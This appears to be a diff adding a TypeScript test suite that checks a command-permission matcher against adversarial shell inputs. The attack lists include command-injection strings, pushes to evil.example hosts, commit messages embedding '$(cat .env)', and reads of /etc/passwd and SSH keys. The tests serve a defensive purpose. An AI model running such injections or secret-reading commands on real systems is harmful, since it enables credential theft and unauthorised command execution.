@@ -1,0 +1,252 @@
+/**
+ * Goal: a later text is of the form of an earlier one only if nothing differs but words of the chosen kinds. Method: texts with
+ * their widths, attacks on the structure of a text, and random calls beside a model that compares them piece by piece. Positive
+ * control: the texts beside the attacks that are of the same form, and faults in controls.test.ts.
+ */
+import assert from "node:assert/strict";
+import { suite, test } from "node:test";
+import { explainCommands } from "../../../packages/readers/src/tables.ts";
+import { EvaluationError } from "../../../packages/core/src/contract/function.ts";
+import { Dice } from "../../support/campaign/random.ts";
+import { printSeed, seedOf } from "../../support/random-test.ts";
+import { drawCall, drawLater, isOfForm, render, type WidthName } from "../../support/width-model.ts";
+import { start, tableOf } from "./kit.ts";
+
+const table = tableOf(`
+forms:
+  - { run: git push, words: [NAME ?, REF *], does: sends, reason: sends commits }
+  - { run: git push, marked: [--force, -f], does: [sends, destroys], reason: overwrites }
+  - { run: git show, options: [-n NUMBER, --author TEXT, -C enters FOLDER], words: [REF *], does: reads }
+  - { run: git commit, options: [-m | --message TEXT, -a, -F reads FILE], words: writes PATHSPEC *, does: [writes, runs] }
+  - { run: cat, words: reads FILE *, does: reads }
+  - { run: grep, options: [-n], words: [PATTERN, reads FILE +], does: reads }
+  - { run: npm run, words: TASK | all, does: runs }
+  - { run: timeout, words: [NUMBER, COMMAND], does: runs }
+  - { run: restart, words: [NAME, NUMBER ?], does: runs, verdict: ESCALATE, reason: restarts a service }
+  - { run: fetch, words: [URL, NAME ?], does: sends, reason: asks another machine }
+  - { run: run-code, words: [AWK], does: runs, verdict: ESCALATE, reason: runs code }
+  - { run: docker exec, does: runs, verdict: ESCALATE, reason: runs a command }
+  - { run: rm, words: writes FILE +, does: destroys, reason: deletes }
+`);
+
+/** The keys of a text's widths; none if the text is in doubt. */
+async function keysOf(text: string): Promise<ReadonlyMap<WidthName, { readonly key: string; readonly shown: string }>> {
+  try {
+    const { widths } = await explainCommands(text, table, start);
+    return new Map(widths.map((width) => [width.name, width]));
+  } catch (error) {
+    if (!(error instanceof EvaluationError)) throw error;
+    return new Map();
+  }
+}
+
+async function isSameForm(source: string, later: string, width: WidthName): Promise<boolean> {
+  const [one, other] = await Promise.all([keysOf(source), keysOf(later)]);
+  const key = one.get(width)?.key;
+  return key !== undefined && key === other.get(width)?.key;
+}
+
+const shown: readonly (readonly [text: string, ...widths: readonly string[]])[] = [
+  ["restart web", "same: restart web", "texts: restart NAME"],
+  ["restart web 5", "same: restart web 5", "texts: restart NAME NUMBER"],
+  ["git push origin main", "same: git push origin main", "texts: git push NAME main"],
+  [
+    "git commit -m 'a; b' src/a.ts",
+    "same: git commit -m 'a; b' src/a.ts",
+    "texts: git commit -m TEXT src/a.ts",
+    "files: git commit -m TEXT PATHSPEC",
+  ],
+  ['git commit --message="a b"', 'same: git commit --message="a b"', "texts: git commit --message=TEXT"],
+  ["git show -n5 HEAD~1 | cat", "same: git show -n5 HEAD~1 | cat", "texts: git show -nNUMBER REF | cat"],
+  [
+    "timeout 60 cat a.txt",
+    "same: timeout 60 cat a.txt",
+    "texts: timeout NUMBER cat a.txt",
+    "files: timeout NUMBER cat FILE",
+  ],
+  ["npm run all", "same: npm run all"],
+  ["npm run test:unit", "same: npm run test:unit", "texts: npm run TASK"],
+  // What other machines, code, hidden files, other folders and unlisted programs get is written word by word.
+  ["fetch https://a.example/x", "same: fetch https://a.example/x"],
+  ["fetch https://a.example/x web", "same: fetch https://a.example/x web", "texts: fetch https://a.example/x NAME"],
+  [
+    "git commit -m x && git push origin",
+    "same: git commit -m x && git push origin",
+    "texts: git commit -m x && git push NAME",
+  ],
+  ["run-code '{ print $1 }'", "same: run-code '{ print $1 }'"],
+  ["cat .env", "same: cat .env"],
+  ["cat src/.env", "same: cat src/.env"],
+  ["cat ../a /etc/passwd ~/b", "same: cat ../a /etc/passwd ~/b"],
+  ["cat src/*.ts", "same: cat src/*.ts"],
+  ["restart .web", "same: restart .web"],
+  ["git show -C src HEAD", "same: git show -C src HEAD", "texts: git show -C src REF"],
+  ["restart web && unlisted x", "same: restart web && unlisted x"],
+  ["cat a.sh | docker exec web sh", "same: cat a.sh | docker exec web sh"],
+  ["for f in a; do cat $f; done", "same: for f in a; do cat $f; done"],
+  ['git commit -m "$(git show HEAD)"', 'same: git commit -m "$(git show HEAD)"'],
+  ["sh -c 'restart web'", "same: sh -c 'restart web'"],
+  ["restart web > log.txt", "same: restart web > log.txt", "texts: restart NAME > log.txt"],
+  // Nothing that destroys has a width.
+  ["rm a.txt"],
+  ["git push --force origin"],
+  ["restart web && rm a.txt"],
+];
+
+/** Texts that are not of the form of the first one, at its widest, beside one that is. */
+const attacks: readonly {
+  readonly source: string;
+  readonly width: WidthName;
+  readonly same: string;
+  readonly others: readonly string[];
+}[] = [
+  {
+    source: "restart web",
+    width: "texts",
+    same: "restart api-2",
+    others: [
+      "restart web 5",
+      "restart",
+      "restart .env",
+      "restart -f",
+      "restart /etc/x",
+      "restart a:b",
+      "restart $(id)",
+      "restart $X",
+      "restart `id`",
+      "restart web;id",
+      "restart web && id",
+      "restart web | id",
+      "restart web & id",
+      "restart web &",
+      "restart web > x",
+      "restart web 2>/dev/null",
+      "restart web < x",
+      "X=1 restart web",
+      "(restart web)",
+      "{ restart web; }",
+      "timeout 5 restart web",
+      "timeout 5 timeout 5 restart web",
+      "sh -c 'restart web'",
+      "sudo restart web",
+      "restart web\nid",
+      "restart web # x",
+      "! restart web",
+      "if restart web; then id; fi",
+      "restart() { id; }; restart web",
+      "alias restart=id; restart web",
+      "cd /; restart web",
+      "while :; do restart web; done",
+      "./restart web",
+      "restart web{a,b}",
+      "restart ~root",
+      "restart we*",
+      "eval restart web",
+      "restart web || id",
+      "time restart web",
+      "nice restart web",
+    ],
+  },
+  {
+    source: "git push origin main",
+    width: "texts",
+    same: "git push upstream main",
+    others: [
+      "git push origin other",
+      "git push origin +main",
+      "git push origin :main",
+      "git push ext::sh main",
+      "git push https://evil.example/x main",
+      "git push git@evil.example:x main",
+      "git push ../x main",
+      "git push -f origin main",
+      "git push origin main --force",
+      "git -c core.sshCommand=id push origin main",
+      "GIT_SSH_COMMAND=id git push origin main",
+      "git push origin main main",
+      "git show HEAD && git push origin main",
+    ],
+  },
+  {
+    source: "git commit -m 'fix' && git show HEAD",
+    width: "texts",
+    same: 'git commit -m "another text; with (signs)" && git show v1.2',
+    others: [
+      'git commit -m "$(cat .env)" && git show HEAD',
+      "git commit -m '@x' && git show HEAD",
+      'git commit -m "$KEY" && git show HEAD',
+      "git commit -am 'fix' && git show HEAD",
+      "git commit -F fix && git show HEAD",
+      "git commit -m 'fix' ; git show HEAD",
+      "git commit -m 'fix' && git show HEAD HEAD",
+      "git commit -m 'fix' src && git show HEAD",
+      "git show HEAD && git commit -m 'fix'",
+      "git commit -m 'fix'\n git show HEAD",
+      "git commit -m 'fix' && git show --author x HEAD",
+    ],
+  },
+  {
+    source: "grep -n 'a b' src/a.ts | cat",
+    width: "files",
+    same: "grep -n x test/b.test.ts | cat",
+    others: [
+      "grep -n x .env | cat",
+      "grep -n x src/.ssh/id | cat",
+      "grep -n x /etc/passwd | cat",
+      "grep -n x ../a | cat",
+      "grep -n x ~/a | cat",
+      "grep -n x a b | cat",
+      "grep x a | cat",
+      "grep -n x a | cat -",
+      "grep -n x a | cat b",
+      "grep -n x a && cat",
+      "grep -n x a |& cat",
+      "grep -n x src/* | cat",
+      "grep -n x src//a | cat",
+      "grep -n x 'a b' | cat",
+      "grep -n x a | cat > b",
+      "grep -n x <(id) | cat",
+    ],
+  },
+];
+
+suite("widths of a command line", { concurrency: true }, () => {
+  test("each text has its widths, the narrowest first", async () => {
+    for (const [text, ...widths] of shown) {
+      const found = [...(await keysOf(text))].map(([name, width]) => `${name}: ${width.shown}`);
+      assert.deepEqual(found, widths, text);
+    }
+  });
+
+  for (const { source, width, same, others } of attacks)
+    test(`no other structure is of the form of ${JSON.stringify(source)}`, async () => {
+      assert.ok(await isSameForm(source, same, width), `positive control: ${same}`);
+      for (const other of others) assert.ok(!(await isSameForm(source, other, width)), other);
+    });
+
+  test("the key says which forms each command fits, and no text can look like a kind", async () => {
+    assert.ok(!(await isSameForm("restart web", "restart NAME 5", "texts")));
+    const [one, other] = await Promise.all([keysOf("restart web"), keysOf("restart NAME")]);
+    assert.equal(one.get("texts")?.shown, other.get("same")?.shown);
+    assert.notEqual(one.get("texts")?.key, other.get("same")?.key);
+  });
+
+  test("of random pairs none is of one form that the model refuses", async (t) => {
+    const [cases, seed] = [Number(process.env["WIDTH_PAIRS"] ?? 10_000), seedOf("WIDTH_SEED")];
+    printSeed(t, { cases, seed, variable: "WIDTH_SEED" });
+    const dice = new Dice(seed);
+    const counts = { same: 0, refused: 0 };
+    for (let at = 0; at < cases; at += 1) {
+      const source = drawCall(dice);
+      const later = drawLater(source, dice);
+      const [one, other] = await Promise.all([keysOf(render(source)), keysOf(render(later))]);
+      for (const [width, { key }] of one) {
+        const isSame = key === other.get(width)?.key;
+        const isExpected = isOfForm(source, later, width);
+        if (isSame) assert.ok(isExpected, `${width}: ${render(source)} and ${render(later)}`);
+        counts[isSame ? "same" : "refused"] += 1;
+      }
+    }
+    assert.ok(counts.same > cases / 10 && counts.refused > cases / 10, JSON.stringify(counts));
+  });
+});
